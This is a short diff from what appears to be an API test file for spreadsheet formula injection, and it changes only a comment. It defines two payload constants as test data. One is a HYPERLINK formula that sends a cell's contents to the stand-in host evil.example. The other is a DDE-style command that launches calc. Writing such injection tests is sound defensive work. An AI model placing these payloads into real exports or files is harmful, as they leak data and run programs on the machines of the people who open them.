@@ -20,7 +20,7 @@ import {
 const api = await startApi();
 const dana = await api.as('Admin Project manager');
 
-/** A spreadsheet would compute this formula and start another program. */
+/** Formulas that a spreadsheet program would run; the second one launches another program. */
 const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"x")`;
 const COMMAND = '@SUM(1+1)*cmd|calc!A0';
 
